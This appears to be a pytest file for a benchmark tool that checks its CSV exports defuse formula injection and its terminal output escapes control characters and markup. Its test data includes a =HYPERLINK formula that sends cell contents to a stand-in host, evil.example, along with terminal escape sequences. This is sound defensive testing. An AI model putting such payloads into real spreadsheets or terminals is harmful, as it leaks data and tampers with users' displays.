"""Hostile task ids, run names and messages: CSV cells never open as formulas, and no control
character or rich markup from data reaches the terminal."""

from __future__ import annotations

import csv
import io
import json
import re

from rich.console import Console

from acesandbox.cli import main
from benchmarks.base import FAIL, PASS, SampleResult, get_benchmark
from benchmarks.output import (
    CSV_FORMULA_START,
    best_of_n,
    print_verification,
    write_outputs,
)
from benchmarks.report import print_summary_table, summary_table
from benchmarks.runner import Evaluation
from benchmarks.verify import Disagreement, RunAgreement

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
ESCAPES = "\x1b]0;pwned\x07\x1b[2J\x9b31m\x7f"
"""Retitle the window, clear the screen, an 8-bit CSI and DEL."""
CONTROLS = re.compile("[\x00-\x1f\x7f-\x9f]")


def _raw_controls(out: str) -> list[str]:
    """Control characters in ``out`` once rich's own colour codes (SGR) and newlines are set aside."""
    return CONTROLS.findall(re.sub("\x1b\\[[0-9;]*m", "", out).replace("\n", ""))


# --------------------------------------------------------------------------- CSV


def _csv_rows(path) -> list[list[str]]:
    with open(path, newline="") as f:
        return list(csv.reader(f))


def test_write_outputs_guards_the_best_of_n_csv(tmp_path):
    """A scorer (model) name that is a formula opens as text; the scores stay numbers."""
    hostile_task = HYPERLINK + ESCAPES
    results = tuple(SampleResult(t, i, "", {"pass": v}) for t in (hostile_task, "T/1") for i, v in enumerate((FAIL, PASS)))
    evaluation = Evaluation("toy", ("pass",), results)
    scores = tmp_path / "rm.jsonl"
    scores.write_text("".join(json.dumps({"task_id": t, "index": i, "score": i}) + "\n"
                              for t in (hostile_task, "T/1") for i in range(2)))
    table = best_of_n(evaluation, {HYPERLINK: str(scores), "-rm": str(scores), "rm": str(scores)})
    paths = write_outputs(get_benchmark("toy"), evaluation, str(tmp_path / "out"), ks=[1], best_of_n_table=table)
    rows = _csv_rows(next(p for p in paths if p.endswith("_best_of_n.csv")))
    names = [row[0] for row in rows[1:]]
    assert "'" + HYPERLINK in names and "'-rm" in names and "rm" in names
    assert not any(name.startswith(CSV_FORMULA_START) for name in names)
    assert rows[1 + names.index("'" + HYPERLINK)][1:] == ["0.0", "1.0"]  # numbers: not guarded
    # the JSONL keeps the task id exactly, with no raw control character in the file
    details = next(p for p in paths if p.endswith("_details.jsonl"))
    with open(details, encoding="utf-8") as f:
        text = f.read()
    assert not CONTROLS.findall(text.replace("\n", ""))
    assert json.loads(text.splitlines()[0])["task_id"] == hostile_task


# --------------------------------------------------------------------------- terminal


def test_summary_table_escapes_controls_and_shows_markup_literally():
    summary = {
        "benchmark": f"[red]x{ESCAPES}",
        "pass_at_k": {"[/]": {"[bold]pass@1": 0.5}},
        "samples": 2, "tasks": 1, "sandbox_errors": 0, "canary": None,
        "warnings": [f"task [/]{ESCAPES} failed"],
    }
    console = Console(file=io.StringIO(), force_terminal=True, width=200)
    console.print(summary_table(summary, title=f"[/]{ESCAPES}"))
    out = console.file.getvalue()
    assert _raw_controls(out) == []
    assert "[red]x\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\x7f" in out
    assert "[/]" in out and "[bold]pass@1" in out and "50.0" in out

    buf = io.StringIO()
    print_summary_table(summary, file=buf, title="t")
    out = buf.getvalue()
    assert _raw_controls(out) == []
    assert "warning: task [/]\\x1b]0;pwned" in out


def test_verification_table_escapes_controls_and_shows_markup_literally(capsys):
    run = RunAgreement(
        benchmark="[red]evalplus", run=f"[/]run{ESCAPES}", compared=2, agreed=1, excluded=0,
        disagreements=(Disagreement(f"T/0{ESCAPES}[/]", "pass", "fail", explanation="[bold]why\nforged line"),),
        notes=(f"note [/]{ESCAPES}",),
    )
    totals = {"runs": 1, "compared": 2, "agreed": 1, "rate": 0.5, "excluded": 0, "explained": 1, "unexplained": 0}
    print_verification([run], totals)
    out = capsys.readouterr().out
    assert _raw_controls(out) == []
    assert "[red]evalplus" in out and "[/]run\\x1b]0;pwned" in out
    assert "T/0\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\x7f[/]: official pass, ours fail -- [bold]why\\nforged line" in out
    assert "note [/]\\x1b]0;pwned" in out


def test_cli_escapes_error_messages_and_scorer_names(tmp_path, capsys, bench_executor):
    samples = tmp_path / "samples.jsonl"
    samples.write_text("".join(json.dumps({"task_id": t, "solution": s}) + "\n" for t, s in [
        ("Toy/0", "def add(a, b):\n    return a + b\n"), ("Toy/1", "def neg(x):\n    return x\n")]))
    scores = tmp_path / "rm.jsonl"
    scores.write_text("".join(json.dumps({"task_id": t, "index": 0, "score": 1}) + "\n" for t in ("Toy/0", "Toy/1")))
    out_dir = tmp_path / "out"
    assert main(["bench", "toy", "--samples", str(samples), "--scores", f"@SUM(1)[red]{ESCAPES}={scores}", "-k", "1",
                 "-o", str(out_dir), "--no-progress", "--workers", "1"]) == 0
    captured = capsys.readouterr()
    assert _raw_controls(captured.out) == [] and _raw_controls(captured.err) == []
    assert "@SUM(1)[red]\\x1b]0;pwned" in captured.out
    rows = _csv_rows(out_dir / "toy_best_of_n.csv")
    assert f"'@SUM(1)[red]{ESCAPES}" in [row[0] for row in rows]

    missing = tmp_path / f"samples{ESCAPES}.jsonl"  # an error message that quotes hostile text
    assert main(["bench", "toy", "--samples", str(missing), "--no-progress"]) == 2
    err = capsys.readouterr().err
    assert _raw_controls(err) == [] and "samples\\x1b]0;pwned\\x07\\x1b[2J\\x9b31m\\x7f.jsonl" in err
